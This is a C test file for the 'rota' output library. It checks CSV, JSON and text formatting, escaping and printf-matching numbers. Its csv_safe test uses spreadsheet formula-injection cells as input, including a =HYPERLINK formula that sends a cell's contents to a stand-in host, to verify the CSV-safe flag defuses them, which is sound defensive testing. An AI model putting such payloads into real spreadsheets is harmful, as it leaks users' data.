#include <config.h>
#include <math.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <rota/rota.h>
#include "tap.h"

static const rota_column COLS[] = {
	{ "name", ROTA_COL_STRING }, { "n", ROTA_COL_NUMBER }, { "x", ROTA_COL_NUMBER }
};

/* The same three rows written in one format, as a string. */
static char *
table(int format, unsigned flags)
{
	char *buf = NULL;
	size_t len = 0;
	FILE *f = open_memstream(&buf, &len);
	rota_record *r = rota_record_new(f, format, COLS, 3, flags);
	rota_record_str(r, "plain"); rota_record_int(r, 7); rota_record_fixed(r, 0.88842, 4);
	rota_record_end(r);
	rota_record_str(r, "a,\"b\"\nc"); rota_record_int(r, -12); rota_record_real(r, 12.50, 3);
	rota_record_end(r);
	rota_record_str(r, "\xc3\xa9t\xe9"); rota_record_null(r); rota_record_fixed(r, NAN, 2);
	rota_record_end(r);
	rota_error err = { 0 };
	ok(rota_record_finish(r, &err) == 0, "finish %s", rota_format_name(format));
	fclose(f);
	return buf;
}

static char *
capture(void (*fn)(FILE *, const char *), const char *s)
{
	char *buf = NULL;
	size_t len = 0;
	FILE *f = open_memstream(&buf, &len);
	fn(f, s);
	fclose(f);
	return buf;
}

/* One number cell written as CSV, without the newline. */
static void
cell(char *out, size_t n, int real, double v, int dec)
{
	static const rota_column one[] = { { "x", ROTA_COL_NUMBER } };
	char *buf = NULL;
	size_t len = 0;
	FILE *f = open_memstream(&buf, &len);
	rota_record *r = rota_record_new(f, ROTA_FORMAT_CSV, one, 1, ROTA_RECORD_NO_HEADER);
	if (real)
		rota_record_real(r, v, dec);
	else
		rota_record_fixed(r, v, dec);
	rota_record_end(r);
	rota_record_free(r);
	fclose(f);
	snprintf(out, n, "%.*s", len ? (int)len - 1 : 0, buf);
	free(buf);
}

/* What printf makes of v, trimmed as rota_record_real trims. */
static void
trimmed(char *b, size_t n, double v, int dec)
{
	snprintf(b, n, "%.*f", dec, v);
	if (strchr(b, '.')) {
		char *e = b + strlen(b) - 1;
		while (*e == '0')
			*e-- = '\0';
		if (*e == '.')
			*e = '\0';
	}
	if (strcmp(b, "-0") == 0)
		strcpy(b, "0");
}

static uint64_t rng = 0x9e3779b97f4a7c15u;
static uint64_t
next(void)
{
	rng ^= rng << 13;
	rng ^= rng >> 7;
	rng ^= rng << 17;
	return rng;
}

/* Numbers are formatted by hand, not by printf: the same text for random doubles of
 * every size, ties (k / 2^j) and plain percentages, in both forms. */
static void
numbers_like_printf(void)
{
	long bad = 0, n = 0;
	char got[512], want[512];
	for (int i = 0; i < 200000; i++) {
		double v;
		uint64_t u = next();
		switch (i % 5) {
		case 0: memcpy(&v, &u, sizeof v); break;                      /* any bits */
		case 1: v = (double)(u % 2000001) / 1000.0 - 1000.0; break;   /* percent-like */
		case 2: v = (double)(int64_t)(u % 4000001 - 2000000) / (double)(1 << (u >> 60)); break;
		case 3: v = ldexp((double)(u >> 11), (int)(u % 120) - 100); break;
		default: v = 100.0 * (double)(u % 100000) / (double)(u % 99991 + 1); break;
		}
		if (!isfinite(v))
			continue;
		int dec = (int)(next() % 5);
		cell(got, sizeof got, 0, v, dec);
		snprintf(want, sizeof want, "%.*f", dec, v);
		bad += strcmp(got, want) != 0;
		cell(got, sizeof got, 1, v, dec);
		trimmed(want, sizeof want, v, dec);
		bad += strcmp(got, want) != 0;
		n += 2;
	}
	static const int64_t ints[] = { 0, 1, -1, 9, 10, -10, 123456789, INT64_MAX, INT64_MIN };
	for (size_t i = 0; i < sizeof ints / sizeof *ints; i++) {
		static const rota_column one[] = { { "x", ROTA_COL_NUMBER } };
		char *buf = NULL;
		size_t len = 0;
		FILE *f = open_memstream(&buf, &len);
		rota_record *r = rota_record_new(f, ROTA_FORMAT_CSV, one, 1, ROTA_RECORD_NO_HEADER);
		rota_record_int(r, ints[i]);
		rota_record_end(r);
		rota_record_free(r);
		fclose(f);
		snprintf(want, sizeof want, "%lld\n", (long long)ints[i]);
		bad += strcmp(buf, want) != 0;
		n++;
		free(buf);
	}
	ok(bad == 0, "numbers as printf writes them: %ld of %ld differ", bad, n);
}

/* String cells that a spreadsheet would run as formulas, beside numbers and a time that
 * look like them, written with flags; as a string. */
static char *
formulas(int format, unsigned flags)
{
	static const rota_column cols[] = {
		{ "ticket", ROTA_COL_STRING }, { "gap", ROTA_COL_NUMBER }, { "at", ROTA_COL_STRING }
	};
	static const char *const cells[] = {
		"=HYPERLINK(\"http://x.test/?\"&A1,\"open\")", "+1", "-1", "@SUM(A1:A9)",
		"\tx", "\rx", "=", "a=b", "'=quoted", "", " =x",
	};
	char *buf = NULL;
	size_t len = 0;
	FILE *f = open_memstream(&buf, &len);
	rota_record *r = rota_record_new(f, format, cols, 3, flags);
	for (size_t i = 0; i < sizeof cells / sizeof *cells; i++) {
		rota_record_str(r, cells[i]);
		rota_record_int(r, -5 - (int64_t)i);
		rota_record_time(r, 0, rota_tz_utc());
		rota_record_end(r);
	}
	rota_record_strn(r, "=x\0=y", 5);   /* the NUL ends the cell */
	rota_record_real(r, -2.5, 1);
	rota_record_end(r);
	rota_error err = { 0 };
	rota_record_finish(r, &err);
	fclose(f);
	return buf;
}

static void
csv_safe(void)
{
	const char *t = ",1970-01-01T00:00:00+00:00\n";
	char exp[2048];
	snprintf(exp, sizeof exp,
	         "ticket,gap,at\n"
	         "\"'=HYPERLINK(\"\"http://x.test/?\"\"&A1,\"\"open\"\")\",-5%s"
	         "'+1,-6%s'-1,-7%s'@SUM(A1:A9),-8%s'\tx,-9%s\"'\rx\",-10%s'=,-11%s"
	         "a=b,-12%s'=quoted,-13%s,-14%s =x,-15%s'=x,-2.5,\n",
	         t, t, t, t, t, t, t, t, t, t, t);
	char *s = formulas(ROTA_FORMAT_CSV, ROTA_RECORD_CSV_SAFE);
	is_str(s, exp, "csv safe: = + - @ TAB CR lead with ', numbers and times untouched");
	free(s);
	snprintf(exp, sizeof exp,
	         "ticket,gap,at\n"
	         "\"=HYPERLINK(\"\"http://x.test/?\"\"&A1,\"\"open\"\")\",-5%s"
	         "+1,-6%s-1,-7%s@SUM(A1:A9),-8%s\tx,-9%s\"\rx\",-10%s=,-11%s"
	         "a=b,-12%s'=quoted,-13%s,-14%s =x,-15%s=x,-2.5,\n",
	         t, t, t, t, t, t, t, t, t, t, t);
	s = formulas(ROTA_FORMAT_CSV, 0);
	is_str(s, exp, "csv by default: exact, formula leads as data");
	free(s);
	char *a = formulas(ROTA_FORMAT_JSON, 0), *b = formulas(ROTA_FORMAT_JSON, ROTA_RECORD_CSV_SAFE);
	is_str(b, a, "json: the flag changes nothing");
	ok(strstr(a, "{\"ticket\":\"=HYPERLINK(") != NULL, "json: the formula as data");
	free(a);
	free(b);
	a = formulas(ROTA_FORMAT_TEXT, 0);
	b = formulas(ROTA_FORMAT_TEXT, ROTA_RECORD_CSV_SAFE);
	is_str(b, a, "text: the flag changes nothing");
	free(a);
	free(b);
	s = formulas(ROTA_FORMAT_CSV, ROTA_RECORD_CSV_SAFE | ROTA_RECORD_NO_HEADER);
	ok(strncmp(s, "\"'=HYPERLINK(", 13) == 0, "csv safe without header");
	free(s);
	s = capture(rota_csv_put, "=1+1");
	is_str(s, "=1+1", "rota_csv_put stays exact (rejects echo their input)");
	free(s);
}

int
main(void)
{
	char *s;

	is_int(rota_format_parse("csv"), ROTA_FORMAT_CSV, "csv");
	is_int(rota_format_parse("json"), ROTA_FORMAT_JSON, "json");
	is_int(rota_format_parse("text"), ROTA_FORMAT_TEXT, "text");
	is_int(rota_format_parse("xml"), -1, "xml");

	s = table(ROTA_FORMAT_CSV, 0);
	is_str(s, "name,n,x\nplain,7,0.8884\n\"a,\"\"b\"\"\nc\",-12,12.5\n\xc3\xa9t\xef\xbf\xbd,,\n",
	       "csv: quoting, trimmed reals, nulls, invalid UTF-8 replaced");
	free(s);
	s = table(ROTA_FORMAT_JSON, 0);
	is_str(s, "{\"name\":\"plain\",\"n\":7,\"x\":0.8884}\n"
	          "{\"name\":\"a,\\\"b\\\"\\nc\",\"n\":-12,\"x\":12.5}\n"
	          "{\"name\":\"\xc3\xa9t\xef\xbf\xbd\",\"n\":null,\"x\":null}\n", "json lines");
	free(s);
	s = table(ROTA_FORMAT_TEXT, 0);
	is_str(s, "name        n       x\n"
	          "plain       7  0.8884\n"
	          "a,\"b\"\\nc  -12    12.5\n"
	          "\xc3\xa9t\\xe9\n",
	       "text: aligned by characters, controls and bad bytes escaped");
	free(s);
	s = table(ROTA_FORMAT_CSV, ROTA_RECORD_NO_HEADER);
	ok(strncmp(s, "plain,", 6) == 0, "csv without header");
	free(s);

	/* A table with no rows still names its columns (CSV); JSON Lines is empty. */
	char *buf = NULL;
	size_t len = 0;
	FILE *f = open_memstream(&buf, &len);
	rota_record *r = rota_record_new(f, ROTA_FORMAT_CSV, COLS, 3, 0);
	rota_error err = { 0 };
	rota_record_finish(r, &err);
	fclose(f);
	is_str(buf, "name,n,x\n", "empty csv has its header");
	free(buf);

	/* Escaping of single values. */
	s = capture(rota_text_put, "red\x1b[31m\tend\xc2\x85");
	is_str(s, "red\\x1b[31m\\tend\\u0085", "text: ESC, tab, C1 control escaped");
	free(s);
	s = capture(rota_json_put_string, "q\"\\\n\x01\x7f\xed\xa0\x80\xc0\xaf");
	is_str(s, "\"q\\\"\\\\\\n\\u0001\\u007f\xef\xbf\xbd\xef\xbf\xbd\xef\xbf\xbd\xef\xbf\xbd"
	          "\xef\xbf\xbd\"", "json: controls escaped, surrogate and overlong replaced");
	free(s);
	s = capture(rota_csv_put, "no\"quote");
	is_str(s, "\"no\"\"quote\"", "csv: quote doubled");
	free(s);
	is_int(rota_text_width("\xe2\x82\xac" "1", 4), 2, "width counts characters");

	/* The JSON printer: commas and nesting by itself. */
	buf = NULL;
	f = open_memstream(&buf, &len);
	rota_json *j = rota_json_new(f, 0);
	rota_json_begin_object(j);
	rota_json_key(j, "a"); rota_json_int(j, 1);
	rota_json_key(j, "b"); rota_json_begin_array(j);
	rota_json_string(j, "x"); rota_json_null(j); rota_json_real(j, 0.50, 2); rota_json_bool(j, 1);
	rota_json_end(j);
	rota_json_key(j, "c"); rota_json_begin_object(j); rota_json_end(j);
	rota_json_end(j);
	ok(rota_json_finish(j, &err) == 0, "json finish");
	fclose(f);
	is_str(buf, "{\"a\":1,\"b\":[\"x\",null,0.5,true],\"c\":{}}\n", "json printer, compact");
	free(buf);
	buf = NULL;
	f = open_memstream(&buf, &len);
	j = rota_json_new(f, 2);
	rota_json_begin_object(j);
	rota_json_key(j, "a"); rota_json_begin_array(j); rota_json_int(j, 1); rota_json_int(j, 2);
	rota_json_end(j);
	rota_json_end(j);
	rota_json_finish(j, &err);
	fclose(f);
	is_str(buf, "{\n  \"a\": [\n    1,\n    2\n  ]\n}\n", "json printer, indented");
	free(buf);
	numbers_like_printf();
	csv_safe();
	return tap_done();
}
